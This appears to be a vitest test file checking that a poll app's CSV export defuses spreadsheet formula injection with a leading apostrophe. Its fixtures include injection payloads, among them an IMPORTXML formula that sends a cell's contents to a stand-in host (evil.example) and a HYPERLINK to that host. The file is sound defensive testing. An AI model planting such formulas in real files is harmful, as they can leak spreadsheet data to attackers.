// The CSV export's cells: text that a spreadsheet would run as a formula (= + - @, a tab or a
// carriage return first) is defused with a leading apostrophe; other text and numbers stay as
// they are, every cell quoted.
import { describe, expect, it } from "vitest";
import { choiceMask } from "../../server/domain/ballot.js";
import { resultsOf } from "../../server/domain/results.js";
import { resultsCsv, TABLE_COLUMNS } from "../../server/domain/results-table.js";
import { addVotes, emptyTally } from "../../server/domain/tally.js";
import type { PollWithResults } from "../../shared/export.js";
import type { Poll } from "../../shared/poll.js";
import { choicePoll, ratingPoll } from "./fixtures.js";

/** Labels a prankster (or a careless moderator) might type, each as a spreadsheet would read it. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example","Klick")',
  "+49 30 1234567",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];
/** Text with those characters further in, or already starting with an apostrophe. */
const HARMLESS = ["Elternschulen", "a=b", "1+1", "'=1+1"];

const column = (name: (typeof TABLE_COLUMNS)[number]) => TABLE_COLUMNS.indexOf(name);

/** The cells of a CSV in which every cell is quoted: rows end with CRLF, quotes inside are doubled. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
  let read = 0;
  for (let match = cell.exec(csv); match; match = cell.exec(csv)) {
    rows.at(-1)?.push((match[1] ?? "").replaceAll('""', '"'));
    if (match[2] === "\r\n") rows.push([]);
    read = cell.lastIndex;
  }
  expect(read, "the whole file is quoted cells").toBe(csv.length);
  rows.pop();
  return rows;
}

function withResults(poll: Poll, votes: (tally: ReturnType<typeof emptyTally>) => void = () => {}): PollWithResults {
  const tally = emptyTally(poll);
  votes(tally);
  return { poll, results: resultsOf(poll, tally) };
}

describe("the CSV export", () => {
  const labels = [...FORMULAS, ...HARMLESS];
  const poll = choicePoll({
    question: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    options: labels.map((label, index) => ({ id: 100 + index, label })),
  });
  /** The exported rows of the poll, three respondents having picked the first and the seventh option. */
  const exportedRows = () =>
    cellsOf(resultsCsv([withResults(poll, (tally) => addVotes(tally, choiceMask([0, 6]), 3))])).slice(1);

  it("defuses every cell that starts with = + - @, a tab or a carriage return", () => {
    const rows = exportedRows();
    expect(rows.map((row) => row[column("answer")]).slice(0, FORMULAS.length)).toEqual(
      FORMULAS.map((label) => `'${label}`),
    );
    for (const row of rows) expect(row[column("question")]).toBe(`'${poll.question}`);
  });

  it("leaves other text as it is", () => {
    const rows = exportedRows();
    expect(rows.map((row) => row[column("answer")]).slice(FORMULAS.length)).toEqual(HARMLESS);
  });

  it("leaves numbers as they are", () => {
    const rows = exportedRows();
    expect(rows.map((row) => row[column("count")])).toEqual(
      labels.map((_, index) => ([0, 6].includes(index) ? "3" : "0")),
    );
    expect(rows[0]?.[column("percent")]).toBe("100");
    const rating = withResults(ratingPoll({ question: "Wie war es?" }), (tally) => addVotes(tally, 2, 1));
    const [, ...ratingRows] = cellsOf(resultsCsv([rating]));
    expect(ratingRows.map((row) => [row[column("answer")], row[column("count")], row[column("average")]])).toEqual([
      ["1", "0", "2"],
      ["2", "1", "2"],
      ["3", "0", "2"],
      ["4", "0", "2"],
      ["5", "0", "2"],
    ]);
  });

  it("has a header row of the table's columns and a row per option, each as wide as the header", () => {
    const [header, ...body] = cellsOf(resultsCsv([withResults(poll)]));
    expect(header).toEqual([...TABLE_COLUMNS]);
    expect(body).toHaveLength(labels.length);
    for (const row of body) expect(row).toHaveLength(TABLE_COLUMNS.length);
  });
});
